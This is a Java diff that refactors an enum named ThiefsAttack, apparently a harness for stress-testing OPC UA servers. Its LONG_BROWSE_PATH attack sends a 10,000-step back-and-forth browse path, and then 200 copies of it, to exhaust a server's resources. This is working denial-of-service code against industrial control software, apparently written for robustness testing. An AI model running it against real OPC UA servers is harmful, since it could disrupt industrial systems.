@@ -8,6 +8,7 @@ import java.util.Collections;
 import java.util.List;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.TimeUnit;
+import java.util.stream.IntStream;
 import org.eclipse.milo.opcua.sdk.client.OpcUaClient;
 import org.eclipse.milo.opcua.stack.core.AttributeId;
 import org.eclipse.milo.opcua.stack.core.NodeIds;
@@ -40,12 +41,7 @@ enum ThiefsAttack {
     LONG_BROWSE_PATH {
         @Override
         void once(OpcUaClient client) {
-            var steps = new ArrayList<RelativePathElement>();
-            for (int i = 0; i < 5_000; i++) {
-                steps.add(step(false, "Objects"));
-                steps.add(step(true, "Root"));
-            }
-            var path = new BrowsePath(NodeIds.RootFolder, new RelativePath(steps.toArray(RelativePathElement[]::new)));
+            var path = thereAndBack(10_000);
             end(client.translateBrowsePathsAsync(List.of(path)));
             end(client.translateBrowsePathsAsync(Collections.nCopies(200, path)));
         }
@@ -151,6 +147,14 @@ enum ThiefsAttack {
                 NodeClass.Object,
                 null,
                 ExpandedNodeId.NULL_VALUE);
+    }
+
+    /** A way of so many steps, between two nodes. */
+    static BrowsePath thereAndBack(int length) {
+        var steps = IntStream.range(0, length)
+                .mapToObj(i -> i % 2 == 0 ? step(false, "Objects") : step(true, "Root"))
+                .toArray(RelativePathElement[]::new);
+        return new BrowsePath(NodeIds.RootFolder, new RelativePath(steps));
     }
 
     private static RelativePathElement step(boolean back, String name) {
